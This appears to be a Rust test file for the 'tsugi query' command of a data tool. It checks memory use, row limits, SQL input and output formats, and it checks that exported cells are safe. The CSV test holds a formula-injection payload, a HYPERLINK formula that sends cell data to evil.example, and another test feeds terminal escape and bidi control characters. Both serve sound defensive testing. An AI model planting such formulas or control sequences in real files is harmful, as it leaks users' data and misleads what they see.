//! `tsugi query`: results of any size in little memory, limits, where the SQL comes from, and cells
//! that programs read back.

use std::fs::File;
use std::io::{Read as _, Write as _};
use std::os::fd::FromRawFd as _;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use serde_json::Value;

use crate::duckdb::{duckdb, has_duckdb};
use crate::sample_copy::{Project, objects};
use crate::support::Outcome;

/// A published project of these models.
fn published(name: &str, models: &[(&str, &str)]) -> Project {
    let project = Project::empty(name);
    project.write(
        "pipeline.toml",
        "[pipeline]\nname = \"few\"\nas_of = \"2026-03-31\"\n",
    );
    for (file, sql) in models {
        project.write(&format!("models/{file}.sql"), sql);
    }
    project.tsugi("run", &[]).ended(0);
    project
}

/// Numbers from 1 on, ten to the power of so many.
fn numbers(digits: usize) -> String {
    let digit = "(VALUES (0), (1), (2), (3), (4), (5), (6), (7), (8), (9))";
    let tables: Vec<String> = (0..digits)
        .map(|n| format!("{digit} AS d{n} (x)"))
        .collect();
    let sum: Vec<String> = (0..digits)
        .map(|n| format!("d{n}.x * {}", 10_i64.pow(n as u32)))
        .collect();
    format!(
        "SELECT 1 + {} AS n FROM {}",
        sum.join(" + "),
        tables.join(" CROSS JOIN ")
    )
}

/// Runs a command whose standard output is a terminal; what came there, and the rest.
fn on_a_terminal(command: &mut Command) -> (String, Outcome) {
    let (mut ours, mut theirs) = (0, 0);
    // SAFETY: both numbers are written before they are read, and the other arguments may be null.
    let opened = unsafe {
        libc::openpty(
            &mut ours,
            &mut theirs,
            std::ptr::null_mut(),
            std::ptr::null(),
            std::ptr::null(),
        )
    };
    assert_eq!(opened, 0, "a terminal");
    // SAFETY: `openpty` made both, and nothing else closes them.
    let (mut ours, theirs) = unsafe { (File::from_raw_fd(ours), File::from_raw_fd(theirs)) };
    let child = command
        .stdout(Stdio::from(theirs))
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // The command holds the other end until it is dropped.
    *command = Command::new("true");
    let reader = std::thread::spawn(move || {
        let (mut all, mut part) = (Vec::new(), [0; 4096]);
        // A terminal without another end fails, which is its end.
        while let Ok(read @ 1..) = ours.read(&mut part) {
            all.extend_from_slice(&part[..read]);
        }
        all
    });
    let outcome = Outcome::of(child.wait_with_output().unwrap());
    let seen = String::from_utf8(reader.join().unwrap()).unwrap();
    (seen.replace("\r\n", "\n"), outcome)
}

/// The most memory that a command held, in bytes, and what it printed.
fn most_memory(project: &Project, args: &[&str]) -> (u64, usize) {
    let mut child = project
        .command("query", args)
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut out = child.stdout.take().unwrap();
    let (mut printed, mut part, mut most) = (0, vec![0; 1 << 16], 0);
    loop {
        let status = std::fs::read_to_string(format!("/proc/{}/status", child.id()));
        let status = status.unwrap_or_default();
        let peak = status.lines().find_map(|line| line.strip_prefix("VmHWM:"));
        let peak =
            peak.and_then(|text| text.trim().strip_suffix(" kB")?.trim().parse::<u64>().ok());
        most = most.max(peak.unwrap_or(0) * 1024);
        match out.read(&mut part).unwrap() {
            0 => break,
            read => printed += read,
        }
    }
    assert!(child.wait().unwrap().success());
    (most, printed)
}

#[test]
fn a_result_of_any_size_takes_the_memory_of_a_few_batches() {
    let text = "repeat('顧客の声と靴の底 ', 8) AS text, 'constant words beside it' AS more";
    let sql = format!("SELECT n, {text} FROM ({}) AS numbers", numbers(6));
    let project = published("streams", &[("a/few", "SELECT 1 AS n"), ("a/big", &sql)]);
    let (small, _) = most_memory(&project, &["SELECT n FROM a.few"]);
    for format in ["table", "csv", "json", "arrow"] {
        let (most, printed) = most_memory(&project, &["SELECT * FROM a.big", "--format", format]);
        assert!(printed > 150_000_000, "{format}: {printed}");
        assert!(
            most - small < 120 << 20,
            "{format}: {} MiB above a query of one row",
            (most - small) >> 20
        );
    }
    // A sort spills and streams too; one batch that does not fit is an error with a hint.
    project.write(
        "pipeline.toml",
        "[pipeline]\nname = \"few\"\nas_of = \"2026-03-31\"\n[limits]\nmemory_max_bytes = 16_777_216\n",
    );
    let outcome = project.tsugi(
        "query",
        &[
            "SELECT repeat(text, 400) AS t FROM a.big",
            "--format",
            "csv",
        ],
    );
    let outcome = outcome.ended(1);
    assert!(
        outcome
            .stderr
            .contains("needs more memory than it may have")
            && outcome.stderr.contains("memory_max_bytes"),
        "{}",
        outcome.stderr
    );
}

#[test]
fn a_reader_that_stops_ends_the_query() {
    let endless = "WITH RECURSIVE n AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM n WHERE i > 0) SELECT i FROM n";
    let project = published("head", &[("a/x", "SELECT 1 AS n")]);
    for format in ["table", "csv", "json"] {
        let started = Instant::now();
        let mut child = project
            .command("query", &[endless, "--format", format])
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let mut first = [0; 1];
        child.stdout.take().unwrap().read_exact(&mut first).unwrap();
        let outcome = Outcome::of(child.wait_with_output().unwrap()).ended(0);
        assert!(outcome.stderr.is_empty(), "{format}: {}", outcome.stderr);
        assert!(started.elapsed() < Duration::from_secs(20), "{format}");
    }
}

#[test]
fn a_person_gets_a_screenful_and_a_program_gets_all() {
    let project = published("limit", &[("a/x", &numbers(3))]);
    let sql = "SELECT n FROM a.x ORDER BY n";
    let lines = |text: &str| text.lines().filter(|line| !line.starts_with('+')).count() - 1;
    let word = "first 100 of more rows; --limit 0 for all";
    let (seen, outcome) = on_a_terminal(&mut project.command("query", &[sql]));
    assert_eq!(lines(&seen), 100, "{seen}");
    assert_eq!(outcome.ended(0).stderr.trim(), word);
    for (more, rows) in [
        (&["--limit", "0"][..], 1000),
        (&["--limit", "7"], 7),
        (&["--limit", "2000"], 1000),
    ] {
        let args: Vec<&str> = [&[sql], more].concat();
        let (seen, outcome) = on_a_terminal(&mut project.command("query", &args));
        assert_eq!(lines(&seen), rows, "{more:?}");
        assert_eq!(outcome.ended(0).stderr, "", "{more:?}");
    }
    let exactly = "SELECT n FROM a.x ORDER BY n LIMIT 100";
    let (seen, outcome) = on_a_terminal(&mut project.command("query", &[exactly]));
    assert_eq!(
        (lines(&seen), outcome.stderr.as_str()),
        (100, ""),
        "there are no more"
    );
    let outcome = project.tsugi("query", &[sql]).ended(0);
    assert_eq!(
        (lines(&outcome.stdout), outcome.stderr.as_str()),
        (1000, "")
    );
    let limited = project.tsugi("query", &[sql, "--limit", "3", "--format", "csv"]);
    assert_eq!(limited.ended(0).stdout, "n\n1\n2\n3\n");

    let control = "SELECT '\u{1b}[2Kx\u{202e}' AS a";
    let (seen, _) = on_a_terminal(&mut project.command("query", &[control, "--format", "csv"]));
    assert_eq!(
        seen, "a\n\\u{1b}[2Kx\\u{202e}\n",
        "a terminal obeys nothing"
    );
    let piped = project
        .tsugi("query", &[control, "--format", "csv"])
        .ended(0);
    assert_eq!(
        piped.stdout, "a\n\u{1b}[2Kx\u{202e}\n",
        "a program gets what is there"
    );
    let (seen, outcome) = on_a_terminal(&mut project.command("query", &[sql, "--format", "arrow"]));
    assert!(seen.is_empty() && outcome.ended(2).stderr.contains("--format arrow > "));
}

#[test]
fn sql_comes_from_a_file_or_from_standard_input() {
    let project = published("sql-from", &[("a/x", "SELECT 7 AS n")]);
    project.write("how_many.sql", "-- How many.\nSELECT n\nFROM a.x\n");
    let file = project.path("how_many.sql").display().to_string();
    let outcome = project.tsugi("query", &["--file", &file, "--format", "csv"]);
    assert_eq!(outcome.ended(0).stdout, "n\n7\n");
    let through = |sql: &str| {
        let mut child = project
            .command("query", &["-", "--format", "csv"])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        child
            .stdin
            .take()
            .unwrap()
            .write_all(sql.as_bytes())
            .unwrap();
        Outcome::of(child.wait_with_output().unwrap())
    };
    assert_eq!(through("SELECT n FROM a.x").ended(0).stdout, "n\n7\n");
    let wrong = through("SELECT n\nFROM FROM a.x").ended(2);
    assert!(
        wrong.stderr.contains("--> standard input:2:"),
        "{}",
        wrong.stderr
    );
    project.write("wrong.sql", "SELECT n\nFROM FROM a.x");
    let wrong = project.path("wrong.sql").display().to_string();
    let outcome = project.tsugi("query", &["--file", &wrong]).ended(2);
    assert!(
        outcome.stderr.contains("wrong.sql:2:"),
        "{}",
        outcome.stderr
    );
    for args in [
        &[][..],
        &["SELECT 1", "--file", &file],
        &["--file", "nowhere.sql"],
    ] {
        let outcome = project.tsugi("query", args).ended(2);
        assert!(
            outcome.stdout.is_empty() && !outcome.stderr.is_empty(),
            "{args:?}"
        );
    }
}

#[test]
fn no_cell_of_csv_is_a_formula() {
    let texts = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
        "+49 30 123",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "＝1+1",
        "'=1",
        "x;=1+1",
        "a\n-b;'+c",
        "it's",
        "plain",
    ];
    let rows: Vec<String> = texts
        .iter()
        .enumerate()
        .map(|(at, text)| format!("({at}, '{}', -1.5)", text.replace('\'', "''")))
        .collect();
    let sql = format!(
        "SELECT id, text, CAST(n AS DOUBLE) AS \"-n\" FROM (VALUES {}) AS v (id, text, n)",
        rows.join(", ")
    );
    let project = published("formulas", &[("a/x", &sql)]);
    let read = |more: &[&str]| {
        let args = [&["SELECT * FROM a.x ORDER BY id", "--format", "csv"], more].concat();
        let text = project.tsugi("query", &args).ended(0).stdout;
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let names = reader.headers().unwrap().clone();
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        (names, rows)
    };
    let (names, rows) = read(&[]);
    assert_eq!(names, vec!["id", "text", "'-n"]);
    for (row, text) in rows.iter().zip(texts) {
        let cell = &row[1];
        let signs = ['=', '+', '-', '@', '＝'];
        let begins = |part: &str, is_first: bool| {
            part.starts_with(signs) || (is_first && part.starts_with(['\t', '\r']))
        };
        let mut back = String::new();
        // A spreadsheet may split a cell behind any of these.
        for (at, part) in cell.split_inclusive([';', '\t', '\r', '\n']).enumerate() {
            assert!(!begins(part, at == 0), "{cell}");
            let is_ours = part.starts_with('\'') && begins(part.trim_start_matches('\''), at == 0);
            back.push_str(if is_ours { &part[1..] } else { part });
        }
        assert_eq!(back, text, "it reads back");
        assert_eq!(&row[2], "-1.5", "a number is no formula");
    }
    let (names, rows) = read(&["--raw"]);
    assert_eq!(names, vec!["id", "text", "-n"]);
    assert!(rows.iter().zip(texts).all(|(row, text)| &row[1] == text));

    let folder = project.path("out").display().to_string();
    let export = |more: &[&str]| {
        let _ = std::fs::remove_dir_all(&folder);
        let args = [
            "a.x", "--owner", "text", "--to", &folder, "--by", "A", "--why", "b",
        ];
        project.tsugi("export", &[&args, more].concat()).ended(0);
        let file = project.path("out").join(
            "%3DHYPERLINK%28%22http%3A%2F%2Fevil%2Eexample%2F%3F%22%26A1%2C%22open%22%29.csv",
        );
        std::fs::read_to_string(file).unwrap()
    };
    assert!(export(&[]).contains("\"'=HYPERLINK"));
    assert!(export(&["--raw"]).contains("\"=HYPERLINK"));
}

#[test]
fn files_that_other_programs_open() {
    let rows = "SELECT value AS id, 'Größe ' || value AS name, DATE '2026-01-02' AS day, CAST(value AS DECIMAL(12, 2)) / 3 AS price,
         [value, NULL] AS list FROM generate_series(1, 150000)";
    let project = published("files", &[("a/x", rows)]);
    let file = project.path("rows.parquet");
    let mut command = project.command(
        "query",
        &["SELECT * FROM a.x ORDER BY id", "--format", "parquet"],
    );
    let done = command
        .stdout(File::create(&file).unwrap())
        .status()
        .unwrap();
    assert!(done.success());
    if has_duckdb() {
        let both = "SELECT count(*), sum(id), max(name), min(day), sum(price), sum(len(list))";
        let script = format!(
            "print(c.execute(\"{both} FROM '{}'\").fetchall() == c.execute('{both} FROM lake.a.x').fetchall())",
            file.display()
        );
        assert_eq!(duckdb(&project.path(".tsugi/warehouse"), &script), "True");
    }
    let reader =
        parquet::file::reader::SerializedFileReader::new(File::open(&file).unwrap()).unwrap();
    let metadata = parquet::file::reader::FileReader::metadata(&reader);
    assert_eq!(metadata.file_metadata().num_rows(), 150_000);
    assert!(
        metadata.num_row_groups() > 1,
        "a group leaves before the last row comes"
    );
    let empty = project
        .command(
            "query",
            &["SELECT * FROM a.x WHERE id < 0", "--format", "parquet"],
        )
        .output()
        .unwrap();
    assert!(empty.stdout.starts_with(b"PAR1") && empty.stdout.ends_with(b"PAR1"));
    let marked = |sql: &str| {
        project
            .tsugi("query", &[sql, "--format", "csv", "--bom"])
            .ended(0)
            .stdout
    };
    assert_eq!(
        marked("SELECT name FROM a.x WHERE id < 3 ORDER BY id"),
        "\u{feff}name\nGröße 1\nGröße 2\n"
    );
    assert_eq!(
        marked("SELECT name FROM a.x WHERE id < 0"),
        "\u{feff}name\n"
    );
}

#[test]
fn json_tells_what_is_no_number_and_has_one_value_a_name() {
    let sql = "SELECT CAST('NaN' AS DOUBLE) AS a, CAST('Infinity' AS DOUBLE) AS b, CAST('-Infinity' AS REAL) AS c, \
               CAST(NULL AS DOUBLE) AS d, CAST(0.1 AS DOUBLE) AS e, [CAST('NaN' AS DOUBLE), 1.5] AS f, CAST(1 AS REAL) AS g";
    let project = published("json", &[("a/x", sql)]);
    let row = &project.rows("SELECT * FROM a.x")[0];
    let expected: Value = serde_json::from_str(
        r#"{"a":"NaN","b":"Infinity","c":"-Infinity","d":null,"e":0.1,"f":["NaN",1.5],"g":1.0}"#,
    )
    .unwrap();
    assert_eq!(Value::Object(row.clone()), expected);
    let twice = "SELECT l.a, r.* FROM a.x AS l CROSS JOIN a.x AS r";
    let row = &project.rows(twice)[0];
    assert_eq!(row.len(), 8, "{row:?}");
    assert_eq!((&row["a"], &row["a_1"]), (&expected["a"], &expected["a"]));
    let csv = project.tsugi("query", &[twice, "--format", "csv"]).ended(0);
    assert!(csv.stdout.starts_with("a,a_1,b,c,"), "{csv:?}");
    let outcome = project
        .tsugi(
            "query",
            &["SELECT '\u{202e}\u{85}' AS t", "--format", "json"],
        )
        .ended(0);
    assert_eq!(objects(&outcome.stdout)[0]["t"], "\u{202e}\u{85}");
    assert!(
        outcome.stdout.contains("\\u202e\\u0085"),
        "{}",
        outcome.stdout
    );
}

#[test]
fn tables_queries_and_plans_are_described() {
    let model = "-- Readings of a probe.\n-- @column n: How much.\n\
                 SELECT 1 AS n, 'a' AS t, CAST(1.5 AS DOUBLE) AS x UNION ALL SELECT 3, NULL, 2.5";
    let project = published("described", &[("a/x", model), ("b/y", "SELECT n FROM a.x")]);
    let tables = project.rows("SHOW TABLES");
    let names: Vec<&Value> = tables.iter().map(|row| &row["name"]).collect();
    assert_eq!(names, ["x", "y"]);
    assert_eq!(
        (&tables[0]["rows"], &tables[0]["description"]),
        (&Value::from(2), &Value::from("Readings of a probe."))
    );
    for sql in [
        "DESCRIBE a.x",
        "SHOW COLUMNS FROM a.x;",
        "-- which\ndesc a.x",
    ] {
        let columns = project.rows(sql);
        assert_eq!(columns.len(), 3, "{sql}");
        assert_eq!(
            (
                &columns[0]["column"],
                &columns[0]["type"],
                &columns[0]["description"]
            ),
            (
                &Value::from("n"),
                &Value::from("BIGINT"),
                &Value::from("How much.")
            ),
            "{sql}"
        );
    }
    let columns = project.rows("DESCRIBE SELECT t, x > 1 AS big FROM a.x");
    assert_eq!(
        (&columns[1]["column"], &columns[1]["type"]),
        (&Value::from("big"), &Value::from("BOOLEAN"))
    );
    let plan = project.lines("EXPLAIN SELECT t, sum(x) FROM a.x WHERE n > 1 GROUP BY t");
    let has = |words: &str| plan.iter().any(|line| line.trim_start().starts_with(words));
    assert!(has("read a.x: ") && has("group by "), "{plan:?}");

    for sql in ["SUMMARIZE a.x", "SUMMARIZE SELECT * FROM a.x"] {
        let rows = project.rows(sql);
        let of = |row: usize, key: &str| rows[row][key].clone();
        assert_eq!(
            (of(0, "min"), of(0, "max"), of(0, "avg")),
            ("1".into(), "3".into(), "2.0".into()),
            "{sql}"
        );
        assert_eq!(
            (of(1, "count"), of(1, "null_percentage")),
            (2.into(), 50.0.into()),
            "{sql}"
        );
        assert_eq!(
            (of(1, "avg"), of(1, "approx_unique")),
            (Value::Null, 1.into()),
            "{sql}"
        );
    }
    assert_eq!(
        project.lines(
            "SELECT table_schema, table_name FROM information_schema.tables WHERE table_name = 'y'"
        ),
        ["b|y".to_owned()].into()
    );
    assert_eq!(
        project.lines("SELECT column_name, ordinal_position, data_type, column_comment FROM information_schema.columns WHERE table_name = 'x' AND ordinal_position = 1"),
        ["n|1|BIGINT|How much.".to_owned()].into()
    );
    assert!(
        project
            .rows("SELECT * FROM information_schema.views")
            .is_empty()
    );
    for (sql, words) in [
        ("DESCRIBE a.z", "did you mean"),
        ("SHOW FUNCTIONS", "SHOW knows TABLES"),
        ("EXPLAIN ANALYZE SELECT 1", "runs nothing"),
        ("SUMMARIZE", "error: "),
    ] {
        let outcome = project.tsugi("query", &[sql]).ended(2);
        assert!(outcome.stderr.contains(words), "{sql}: {}", outcome.stderr);
    }
    project.write("models/a/w.sql", "SHOW TABLES");
    let outcome = project.tsugi("check", &[]).ended(2);
    assert!(
        outcome.stderr.contains("`tsugi query` answers it"),
        "{}",
        outcome.stderr
    );
}
